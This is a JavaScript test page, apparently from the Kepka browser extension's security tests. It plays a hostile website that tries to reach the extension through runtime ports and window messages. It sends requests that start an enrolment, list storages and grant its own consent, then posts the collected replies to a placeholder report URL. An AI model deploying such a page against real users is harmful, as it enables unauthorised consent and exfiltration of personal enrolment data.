// SPDX-FileCopyrightText: 2026 The Kepka authors
// SPDX-License-Identifier: MIT
//
// Tries every way to Kepka that a page has, below the page library, and reports what came back.
(() => {
  const extensionId = 'EXTENSION_ID';
  const applicant = {
    kind: 'person', surname: 'Иванова', name: 'Анна', email: 'anna@example.ru', snils: '112-233-445 95', inn: '500100732259',
  };
  const requests = [
    { type: 'request', id: 1, method: 'enrolments.begin', params: { requestId: 'hostile', storage: 'registry', applicant } },
    { type: 'request', id: 2, method: 'storages.list', params: {} },
    { type: 'request', id: 3, method: 'enrolments.list', params: {} },
    { type: 'request', id: 4, method: 'consents.set', params: { origin: location.origin, consent: 'granted' } },
    { type: 'request', id: 5, method: 'sensor.add', params: { sensor: '0'.repeat(32), events: [] } },
  ];
  // A page that shall be answered waits for it: right after its start a browser may still be reading its administrator's rules.
  const patience = location.hash === '#patient' ? 15_000 : 1500;
  const heard = [];
  const answered = () => requests.every(({ id }) => heard.some((message) => message.id === id));

  function throughPort() {
    if (!globalThis.chrome?.runtime?.connect) return;
    try {
      const port = chrome.runtime.connect(extensionId, { name: 'kepka.page' });
      port.onMessage.addListener((message) => heard.push(message));
      port.onDisconnect.addListener(() => heard.push({ type: 'disconnected', why: chrome.runtime.lastError?.message }));
      requests.forEach((request) => port.postMessage(request));
      chrome.runtime.sendMessage(extensionId, { type: 'call', method: 'consents.list', params: {} })
        ?.then?.((answer) => answer !== undefined && heard.push({ type: 'answer', answer }), () => undefined);
    } catch (error) {
      heard.push({ type: 'thrown', why: String(error) });
    }
  }

  function throughWindow(target) {
    const link = `hostile-${Math.random()}`;
    const say = (body) => target.postMessage({ kepka: 'toExtension', link, body }, '*');
    say({ type: 'open' });
    requests.forEach((message) => say({ type: 'message', message }));
  }

  window.addEventListener('message', ({ data }) => {
    if (data?.kepka === 'toPage' && data.body.type === 'message') heard.push(data.body.message);
  });

  globalThis.attacked = (async () => {
    throughPort();
    throughWindow(window);
    if (window.top !== window) throughWindow(window.top);
    const end = Date.now() + patience;
    while (Date.now() < end && !answered()) await new Promise((resolve) => setTimeout(resolve, 50));
    const report = { origin: self.origin, prerendering: document.prerendering === true, heard };
    window.top.postMessage({ report }, '*');
    await fetch('REPORT_URL', { method: 'POST', body: JSON.stringify(report), mode: 'no-cors' }).catch(() => undefined);
    return report;
  })();
})();
